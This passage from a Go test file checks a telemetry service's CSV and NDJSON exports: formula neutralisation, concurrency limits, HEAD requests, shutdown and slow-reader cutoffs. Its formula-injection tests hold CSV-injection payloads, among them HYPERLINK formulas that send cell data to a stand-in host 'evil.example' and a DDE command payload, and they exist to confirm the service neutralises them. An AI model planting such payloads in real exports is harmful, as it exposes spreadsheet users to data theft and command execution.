		t.Fatalf("cells %q, %q and %q, want -1, %q", record[2], record[5], record[6], want)
	}

	// A text a spreadsheet would read as a formula gets a ' before it,
	// escaped or not in the JSON; a number does not.
	for _, c := range []struct {
		s    string
		n    float64
		want []string
	}{
		{"=1+1", -2, []string{"'=1+1", "-2"}},
		{"+1", 0, []string{"'+1", "0"}},
		{"-x\n", 0, []string{"'-x\n", "0"}},
		{"@SUM(1,2)", 0, []string{"'@SUM(1,2)", "0"}},
		{"\t=1", 0, []string{"'\t=1", "0"}},
		{"\r=1", 0, []string{"'\r'=1", "0"}},
		{"a=1", 0, []string{"a=1", "0"}},
		// A spreadsheet that splits at ; (Excel in a locale whose list
		// separator it is) or, its quotes undone, at a line break, starts
		// a cell at each part: each part is guarded, past spaces and quotes.
		{`x;=HYPERLINK("http://evil.example/?"&A1)`, 0, []string{`x;'=HYPERLINK("http://evil.example/?"&A1)`, "0"}},
		{"a;b;+1;c", 0, []string{"a;b;'+1;c", "0"}},
		{`x; "=1`, 0, []string{`x;' "=1`, "0"}},
		{`x;"@SUM(1,2)"`, 0, []string{`x;'"@SUM(1,2)"`, "0"}},
		{" =1", 0, []string{"' =1", "0"}},
		{`"=1"`, 0, []string{`'"=1"`, "0"}},
		{"=1;-2", 0, []string{"'=1;'-2", "0"}},
		{"line\n=1+1", 0, []string{"line\n'=1+1", "0"}},
		{"line\r\n-1", 0, []string{"line\r\n'-1", "0"}},
		{"a;b\nc; d=1;", 0, []string{"a;b\nc; d=1;", "0"}},
		{"a;;\t", 0, []string{"a;;'\t", "0"}},
	} {
		b, _ := json.Marshal(item{S: c.s, N: c.n})
		record := make([]string, len(cols.names))
		if err := cols.split(b, record); err != nil {
			t.Fatal(err)
		}
		if record[0] != c.want[0] || record[2] != c.want[1] {
			t.Errorf("%q, %v: cells %q and %q, want %q", c.s, c.n, record[0], record[2], c.want)
		}
	}
}

// In a CSV export, stored text that a spreadsheet would run as a formula
// is neutralised with a ' (the generic path, here flows, and the hand-
// written measurement rows alike); NDJSON keeps it exactly. Read as RFC
// 4180 says (a spreadsheet whose separator is the comma), no cell starts
// a formula; read as Excel reads it where the list separator is ; (every
// line split at each ;, quotes only meaning something at a field's start,
// so line breaks in quoted cells end rows too), no field does either.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	s := newTestServer(t)
	payloads := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1+1", "-2+3", "@SUM(1,2)", "\t=1", "=cmd|' /C calc'!A0",
		`x;=HYPERLINK("http://evil.example/?x="&A1,"click")`, `ok;"@SUM(1,2)"`, "two\nlines\n-1", "a; +1"}
	var flows []string
	for _, p := range payloads {
		b, _ := json.Marshal(p)
		flows = append(flows, fmt.Sprintf(`{"src_app":"s","dest_app":%s,"vpc_id":"v","bytes_tx":1,"bytes_rx":2,"hour":5}`, b))
	}
	s.do("POST", "/flows", "["+strings.Join(flows, ",")+"]").wantStatus(t, http.StatusCreated)
	// A name with a ; takes the hand-written rows; so do the JSON texts.
	s.do("POST", "/api/measurements", fmt.Sprintf(`[{"name":%q,"method":"GET","startedAt":%d,"endedAt":%d,
		"context":{"note":"x;=HYPERLINK(1)","plain":"a;b"}}]`, "/a;=1+1", day0, day0+1)).
		wantStatus(t, http.StatusCreated)
	for _, path := range []string{"/flows?hour=5", fmt.Sprintf("/api/measurements/?startedAt=%d&endedAt=%d", day0-1, day0+2)} {
		raw := s.export(t, path, "text/csv")
		records, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		n := 0
		for _, r := range records[1:] {
			for _, cell := range r {
				if cell != "" && formulaStart[cell[0]] {
					t.Errorf("%s: cell %q starts a formula", path, cell)
				}
				n += strings.Count(cell, "'=") + strings.Count(cell, "'+") + strings.Count(cell, "'-") +
					strings.Count(cell, "'@") + strings.Count(cell, "'\t") + strings.Count(cell, "' +") +
					strings.Count(cell, `'"@`)
			}
		}
		// The ;-separated reading of the same bytes.
		for _, field := range strings.FieldsFunc(string(raw), func(r rune) bool { return r == ';' || r == '\n' || r == '\r' }) {
			if f := strings.TrimLeft(field, ` "`); f != "" && formulaStart[f[0]] {
				t.Errorf("%s: split at ; and line breaks, the field %q starts a formula", path, field)
			}
		}
		// Each payload once; the measurement's name and its context's note.
		if want := map[bool]int{true: len(payloads), false: 2}[strings.HasPrefix(path, "/flows")]; n != want {
			t.Errorf("%s: %d neutralised parts, want %d: %q", path, n, want, records)
		}
		if nd := s.export(t, path, "application/x-ndjson"); !bytes.Contains(nd, []byte(`"@SUM(1,2)"`)) && strings.HasPrefix(path, "/flows") {
			t.Errorf("%s: NDJSON does not keep the text exactly: %s", path, nd)
		}
	}
	s.checkExport(t, "/flows?hour=5")
}

// A client that gives up before the first row is a 499 in the logs and
// metrics (as for the JSON lists), never a 500.
func TestExportClientGoneBeforeFirstRow(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, func(c *config.Config) { c.DBTimeout = 0; c.SelfProfile = false })
	ctx := context.Background()
	s.lockTable(t, "flows")
	cctx, cancel := context.WithTimeout(ctx, 300*time.Millisecond)
	defer cancel()
	req, _ := http.NewRequestWithContext(cctx, "GET", s.URL+"/flows?hour=1", nil)
	req.Header.Set("Accept", "text/csv")
	if res, err := http.DefaultClient.Do(req); err == nil {
		res.Body.Close()
		t.Fatalf("an answer (%d) while the table is locked", res.StatusCode)
	}
	want := `telemetry_http_requests_total{method="GET",route="/flows",status="499"} 1`
	deadline := time.Now().Add(30 * time.Second)
	for {
		body := string(s.do("GET", "/metrics", nil).Body)
		if strings.Contains(body, want) {
			break
		}
		if strings.Contains(body, `route="/flows",status="500"`) || time.Now().After(deadline) {
			t.Fatalf("no %s in /metrics", want)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

// An instance streams at most EXPORTS_MAX exports at a time (each holds a
// database connection while its client reads): one more is a 503 problem
// with Retry-After at once, counted as busy, whatever its format; the JSON
// page of the same list still answers; once an export ends its slot is
// free again.
func TestExportsAtMostExportsMax(t *testing.T) {
	t.Parallel()
	s, logs := newLoggedServer(t, func(c *config.Config) {
		c.SelfProfile = false
		c.ExportsMax = 2
		c.ExportMinRate = 0 // the two stalled exports hold their slots
	})
	fillMeasurements(t, s, 60_000) // ~25 MB of NDJSON: more than the sockets buffer
	var open []*http.Response
	for range 2 {
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		res := exportRequest(t, s, ctx, "/api/measurements/", "application/x-ndjson")
		if _, err := bufio.NewReader(res.Body).ReadString('\n'); err != nil {
			t.Fatal(err)
		}
		open = append(open, res)
	}
	// Both exports are blocked on their readers now.
	for _, accept := range []string{"text/csv", "application/x-ndjson"} {
		r := s.do("GET", "/flows?hour=0", nil, "Accept", accept)
		p := r.problem(t, http.StatusServiceUnavailable)
		if r.Header.Get("Retry-After") == "" || !strings.Contains(p.Detail, "EXPORTS_MAX") {
			t.Fatalf("a third export (%s): Retry-After %q, detail %q", accept, r.Header.Get("Retry-After"), p.Detail)
		}
	}
	if got := s.exportsCounted(t, "csv", "busy"); got != "1" {
		t.Fatalf("busy csv exports = %q, want 1", got)
	}
	// The refusals' cause is logged once, not per refusal (internal/warnlimit).
	if l := logs.lines("export refused: EXPORTS_MAX exports in progress"); len(l) != 1 {
		t.Fatalf("%d log lines for two refusals, want 1", len(l))
	}
	s.do("GET", "/api/measurements/?size=5", nil).wantStatus(t, http.StatusOK)

	open[0].Body.Close()
	deadline := time.Now().Add(30 * time.Second)
	for {
		r := s.do("GET", "/flows?hour=0", nil, "Accept", "text/csv")
		if r.Status == http.StatusOK {
			if !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") || string(r.Body) != "src_app,dest_app,vpc_id,bytes_tx,bytes_rx,hour\r\n" {
				t.Fatalf("the export after a slot was freed: %s %q", r.Header.Get("Content-Type"), r.Body)
			}
			break
		}
		r.problem(t, http.StatusServiceUnavailable)
		if time.Now().After(deadline) {
			t.Fatal("the slot of the closed export was not freed")
		}
		time.Sleep(20 * time.Millisecond)
	}
	open[1].Body.Close()
}

// HEAD of an export answers its status and headers as GET would, at the
// first row, without reading the rest: before, net/http discarded the
// body while the whole export ran, holding a connection and an
// EXPORTS_MAX slot (a GET export meanwhile was a 503).
func TestExportHead(t *testing.T) {
	t.Parallel()
	s := newDevicesServer(t, func(c *config.Config) { c.ExportsMax = 1 })
	const n = 20000
	fillMeasurements(t, s, n)
	path := fmt.Sprintf("/api/measurements/?startedAt=%d", time.Now().Add(-2*time.Hour).Unix())
	for _, accept := range []string{"text/csv", "application/x-ndjson"} {
		res := s.headExport(t, path, accept)
		if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), accept) {
			t.Fatalf("HEAD %s: %d %q", accept, res.StatusCode, res.Header.Get("Content-Type"))
		}
		format := map[string]string{"text/csv": "csv", "application/x-ndjson": "ndjson"}[accept]
		if got := s.waitExportsCounted(t, format, "complete", "1"); got != "1" {
			t.Fatalf("HEAD %s: %q exports complete, want 1", accept, got)
		}
		body := string(s.do("GET", "/metrics", nil).Body)
		if line := fmt.Sprintf("telemetry_export_rows_total{format=%q} ", format); strings.Contains(body, line) &&
			!strings.Contains(body, line+"0\n") {
			t.Fatalf("HEAD %s streamed rows: %s", accept, body[strings.Index(body, line):][:60])
		}
	}
	waitIdle(t, s)
	// The slot is free: a GET export streams every row.
	if got := len(bytes.Split(bytes.TrimSpace(s.export(t, path, "application/x-ndjson")), []byte("\n"))); got < n {
		t.Fatalf("GET export after HEAD: %d rows, want at least %d", got, n)
	}
	// Errors found before the first row are answered to HEAD as to GET.
	if res := s.headExport(t, "/mrd/devices/nosuch/metrics", "text/csv"); res.StatusCode != http.StatusNotFound {
		t.Fatalf("HEAD export of an unknown device: %d", res.StatusCode)
	}
}

// headExport sends HEAD path with Accept accept, and returns the answer
// (its body closed).
func (s *testServer) headExport(t *testing.T, path, accept string) *http.Response {
	t.Helper()
	return rawRequest(t, http.MethodHead, s.URL+path, "", "Accept", accept)
}

// Every exported list answers HEAD at its first row, with no error logged
// as a failure: each kind of export call (exportError, deviceError).
func TestExportHeadEveryList(t *testing.T) {
	t.Parallel()
	s := newDevicesServer(t)
	s.createDevice(t, "hd1")
	s.do("PUT", "/mrd/hd1/metrics", metricDoc("load", 1, "int8", 60), bearer(t)...).wantStatus(t, http.StatusOK)
	s.do("POST", "/flows", `[{"src_app":"a","dest_app":"b","vpc_id":"v","bytes_tx":1,"bytes_rx":2,"hour":3}]`).wantStatus(t, http.StatusCreated)
	paths := []string{"/flows?hour=3", "/flows/summary?hour=3&by=src_app", "/mrd/devices", "/mrd/devices/hd1/metrics",
		"/mrd/devices/hd1/metrics/load/history", "/mrd/devices/hd1/metrics/load/history?bucket=1h", "/mrd/metrics/current"}
	for _, path := range paths {
		if res := s.headExport(t, path, "text/csv"); res.StatusCode != http.StatusOK {
			t.Errorf("HEAD %s: %d", path, res.StatusCode)
		}
	}
	if got := s.exportsCounted(t, "csv", "failed"); got != "" && got != "0" {
		t.Fatalf("%s HEAD exports counted failed", got)
	}
	if got := s.waitExportsCounted(t, "csv", "complete", fmt.Sprint(len(paths))); got != fmt.Sprint(len(paths)) {
		t.Fatalf("%s HEAD exports complete, want %d", got, len(paths))
	}
}

// A shutdown that runs out of SHUTDOWN_TIMEOUT interrupts the exports still
// running (serve calls Exports.Interrupt before it closes the connections):
// one streaming to a client that stopped reading is cut as a failed one is
// (a truncated HTTP/1.1 body), one waiting for its first row is a 503 with
// Retry-After, and each is counted as interrupted, not client_gone (as they
// were when the server's close cut them). Interrupt returns once they have
// ended.
func TestExportInterruptedByShutdown(t *testing.T) {
	t.Parallel()
	base := newTestServer(t, func(c *config.Config) { c.SelfProfile = false })
	fillMeasurements(t, base, 60_000) // ~25 MB: more than the sockets buffer
	cfg, err := config.Load(func(string) string { return "" })
	if err != nil {
		t.Fatal(err)
	}
	cfg.SelfProfile, cfg.DBTimeout, cfg.ExportMinRate = false, 0, 0
	exports, prom := NewExports(), metrics.New()
	h, _ := New(Deps{Store: postgres.New(base.Pool, postgres.Options{}).Stores(), Config: cfg, Metrics: prom, Exports: exports})
	s := &testServer{Server: newHTTPTest(t, h), Pool: base.Pool, Metrics: prom, t: t}

	// HTTP/1.1, NDJSON: the client reads a line, then nothing.
	res := exportRequest(t, s, context.Background(), "/api/measurements/", "application/x-ndjson")
	defer res.Body.Close()
	br := bufio.NewReader(res.Body)
	if _, err := br.ReadString('\n'); err != nil {
		t.Fatal(err)
	}
	// HTTP/1.0, CSV: the same.
	res10, _ := http10Export(t, s, "/api/measurements/", "text/csv")
	br10 := bufio.NewReader(res10.Body)
	if _, err := br10.ReadString('\n'); err != nil {
		t.Fatal(err)
	}
	// A CSV export waiting for its first row: its table is locked. (The
	// pool's 4 connections are taken now: the lock is watched from a
	// connection of its own.)
	watch, err := pgx.Connect(context.Background(), s.Pool.Config().ConnString())
	if err != nil {
		t.Fatal(err)
	}
	defer watch.Close(context.Background())
	release := s.lockTable(t, "flows")
	waiting := make(chan response, 1)
	go func() {
		req, _ := http.NewRequest("GET", s.URL+"/flows?hour=1", nil)
		req.Header.Set("Accept", "text/csv")
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			waiting <- response{}
			return
		}
		defer res.Body.Close()
		b, _ := io.ReadAll(res.Body)
		waiting <- response{Status: res.StatusCode, Header: res.Header, Body: b}
	}()
	for deadline := time.Now().Add(30 * time.Second); ; {
		var n int
		if err := watch.QueryRow(context.Background(),
			`SELECT count(*) FROM pg_locks WHERE NOT granted AND relation = 'flows'::regclass`).Scan(&n); err != nil {
			t.Fatal(err)
		}
		if n > 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the export never waited on the lock")
		}
		time.Sleep(20 * time.Millisecond)
	}

	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	exports.Interrupt(ctx)
	if ctx.Err() != nil {
		t.Fatal("Interrupt did not return: the exports still run")
	}
	// Counted before Interrupt returned.
	if got := s.exportsCounted(t, "ndjson", "interrupted"); got != "1" {
		t.Errorf("interrupted NDJSON exports = %q, want 1", got)
	}
	if got := s.exportsCounted(t, "csv", "interrupted"); got != "2" {
		t.Errorf("interrupted CSV exports = %q, want 2", got)
	}
	for _, format := range []string{"csv", "ndjson"} {
		if got := s.exportsCounted(t, format, "client_gone"); got != "" {
			t.Errorf("%s exports counted client_gone: %s", format, got)
		}
	}
	if _, err := io.Copy(io.Discard, br); !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Errorf("HTTP/1.1: reading the rest: %v, want io.ErrUnexpectedEOF (a truncated body)", err)
	}
	// (The HTTP/1.0 answer is closed by net/http after its failed write, not
	// reset: docs/export.md, "Time limits".)
	_, _ = io.Copy(io.Discard, br10)
	r := <-waiting
	if p := r.problem(t, http.StatusServiceUnavailable); r.Header.Get("Retry-After") == "" || !strings.Contains(p.Detail, "shutting down") {
		t.Errorf("the export waiting for its first row: Retry-After %q, detail %q", r.Header.Get("Retry-After"), p.Detail)
	}
	release()
	waitIdle(t, s)
}

// EXPORT_MIN_RATE frees the slot of a client that reads too slowly: one
// that keeps reading, but slower than the rate, is cut (a truncated body)
// long before WRITE_TIMEOUT (10 minutes here: it never waits that long for
// one write), counted as too_slow, and the next export gets its
// EXPORTS_MAX slot. Before, such a client held its slot and database
// connection for as long as it kept each write under WRITE_TIMEOUT.
func TestExportMinRateCutsSlowReaders(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, func(c *config.Config) {
		c.SelfProfile = false
		c.ExportsMax = 1
		c.WriteTimeout = 10 * time.Minute
		c.ExportMinRate = 4 << 20 // 4 MiB/s: 1 MiB (250 ms) behind at most
	})
	fillMeasurements(t, s, 60_000) // ~25 MB of NDJSON: more than the sockets buffer
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	res := exportRequest(t, s, ctx, "/api/measurements/", "application/x-ndjson")
	defer res.Body.Close()
	read, err := readSlowly(res.Body)
	if !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Fatalf("after %d bytes: %v, want the export cut (io.ErrUnexpectedEOF)", read, err)
	}
	if got := s.waitExportsCounted(t, "ndjson", "too_slow", "1"); got != "1" {
		t.Fatalf("too_slow exports = %q, want 1 (client_gone %q)", got, s.exportsCounted(t, "ndjson", "client_gone"))
	}
	waitIdle(t, s)
	// The rows it wrote before the cut are counted, as a failed or an
	// interrupted export's are.
	if rows := s.exportRowsCounted(t, "ndjson"); rows < 1000 {
		t.Fatalf("telemetry_export_rows_total{format=\"ndjson\"} = %d after %d bytes read, want the rows written", rows, read)
	}
	// The slot is free: another export answers.
	if r := s.do("GET", "/flows?hour=0", nil, "Accept", "text/csv"); r.Status != http.StatusOK {
		t.Fatalf("an export after the slow one was cut: %d %s", r.Status, r.Body)
	}
}

// exportRowsCounted reads telemetry_export_rows_total for format (0 when
// absent).
func (s *testServer) exportRowsCounted(t *testing.T, format string) int64 {
	t.Helper()
	body := string(s.do("GET", "/metrics", nil).wantStatus(t, http.StatusOK).Body)
	prefix := fmt.Sprintf("telemetry_export_rows_total{format=%q} ", format)
	for _, line := range strings.Split(body, "\n") {
		if v, ok := strings.CutPrefix(line, prefix); ok {
			f, err := strconv.ParseFloat(v, 64)
			if err != nil {
				t.Fatalf("%s%s: %v", prefix, v, err)
			}
			return int64(f)
		}
	}
	return 0
}

// http10Export sends GET path with Accept accept over HTTP/1.0 on a
// connection of its own and answers the response (a 200 without chunks).
func http10Export(t *testing.T, s *testServer, path, accept string) (*http.Response, net.Conn) {
	t.Helper()
	return http10ExportOver(t, s, false, path, accept)
}

// http10ExportOver is http10Export, over TLS when overTLS: to a server of
// its own on the same API (as serve serves it with TLS_CERT_FILE, HTTP/1.1
// at most), where a close would also send TLS's close_notify, the end of a
// whole answer.
func http10ExportOver(t *testing.T, s *testServer, overTLS bool, path, accept string) (*http.Response, net.Conn) {
	t.Helper()
	var conn net.Conn
	var err error
	if overTLS {
		srv := httptest.NewUnstartedServer(s.handler)
		srv.Config.ConnContext = ConnContext
		srv.StartTLS()
		t.Cleanup(srv.Close)
		conn, err = tls.Dial("tcp", srv.Listener.Addr().String(), srv.Client().Transport.(*http.Transport).TLSClientConfig)
	} else {
		conn, err = net.Dial("tcp", strings.TrimPrefix(s.URL, "http://"))
	}
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { conn.Close() })
	if _, err := io.WriteString(conn, "GET "+path+" HTTP/1.0\r\nAccept: "+accept+"\r\n\r\n"); err != nil {
		t.Fatal(err)
	}
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.StatusCode != http.StatusOK || res.ProtoMinor != 0 || len(res.TransferEncoding) != 0 {
		t.Fatalf("%s %d, transfer encoding %v: want an HTTP/1.0 200 without chunks", res.Proto, res.StatusCode, res.TransferEncoding)
	}
	return res, conn
}

// An HTTP/1.0 export that EXPORT_MIN_RATE cuts resets the connection: net/http
// closes it itself after the write that missed its deadline, before the
// handler can cut it, and a plain close read as the end of a complete
// export (the connection resets while the handler runs: resetHTTP10).
// Over TLS too, where net/http's close also sends TLS's close_notify.
func TestExportMinRateCutResetsHTTP10(t *testing.T) {
	t.Parallel()
	for _, overTLS := range []bool{false, true} {
		t.Run(fmt.Sprintf("tls=%t", overTLS), func(t *testing.T) {
			t.Parallel()
			s := newTestServer(t, func(c *config.Config) {
				c.SelfProfile = false
				c.WriteTimeout = 10 * time.Minute
				c.ExportMinRate = 4 << 20
			})
			fillMeasurements(t, s, 60_000) // ~25 MB of CSV
			res, _ := http10ExportOver(t, s, overTLS, "/api/measurements/", "text/csv")
			read, err := readSlowly(res.Body)
			if !errors.Is(err, syscall.ECONNRESET) {
				t.Fatalf("after %d bytes: %v, want the connection reset (a clean end reads as a complete export)", read, err)
			}
			if got := s.waitExportsCounted(t, "csv", "too_slow", "1"); got != "1" {
				t.Fatalf("too_slow exports = %q, want 1", got)
			}
			waitIdle(t, s)
		})
	}
}

// A whole HTTP/1.0 export ends with a plain close, every row delivered:
// the reset is lifted once the handler has written its last byte, and the
// bytes still in the socket's buffer then (the client reads slowly) reach
// the client. Over TLS, with TLS's close_notify at the end.
func TestExportCompleteHTTP10EndsCleanly(t *testing.T) {
	t.Parallel()
	for _, overTLS := range []bool{false, true} {
		t.Run(fmt.Sprintf("tls=%t", overTLS), func(t *testing.T) {
			t.Parallel()
			s := newTestServer(t, func(c *config.Config) { c.SelfProfile = false; c.ExportMinRate = 0 })
			const n = 20_000
			fillMeasurements(t, s, n)
			path := fmt.Sprintf("/api/measurements/?startedAt=%d", time.Now().Add(-2*time.Hour).Unix())
			res, _ := http10ExportOver(t, s, overTLS, path, "application/x-ndjson")
			// Slower than the service writes, so that its socket buffer is full
			// when it has written the last row.
			buf := make([]byte, 16<<10)
			var body bytes.Buffer
			for {
				k, err := res.Body.Read(buf)
				body.Write(buf[:k])
				if errors.Is(err, io.EOF) {
					break
				}
				if err != nil {
					t.Fatalf("after %d bytes: %v, want the whole export", body.Len(), err)
				}
				time.Sleep(2 * time.Millisecond)
			}
			if got := bytes.Count(body.Bytes(), []byte("\n")); got != n {
				t.Fatalf("%d rows, want %d", got, n)
			}
			if got := s.exportsCounted(t, "ndjson", "complete"); got != "1" {
				t.Fatalf("complete exports = %q, want 1", got)
			}
		})
	}
}

// readSlowly reads body 32 KiB every 50 ms (about 640 KiB/s, never a pause
// near WRITE_TIMEOUT) until an error (io.EOF at a clean end) or 3 minutes,
// and answers how much it read and the error.
func readSlowly(body io.Reader) (int64, error) {
	buf := make([]byte, 32<<10)
	var read int64
	for deadline := time.Now().Add(3 * time.Minute); time.Now().Before(deadline); {
		n, err := body.Read(buf)
		read += int64(n)
		if err != nil {
			return read, err
		}
		time.Sleep(50 * time.Millisecond)
	}
	return read, nil
}

// terminateExportBackend terminates the backend of the one export of
// measurements under way, as an operator or a failover would.
func terminateExportBackend(t *testing.T, s *testServer) {
	t.Helper()
	var n int
	err := s.Pool.QueryRow(context.Background(), `SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity
		WHERE datname = current_database() AND pid <> pg_backend_pid() AND query LIKE '%FROM measurements%'`).Scan(&n)
	if err != nil || n != 1 {
		t.Fatalf("terminated %d backends: %v", n, err)
	}
}
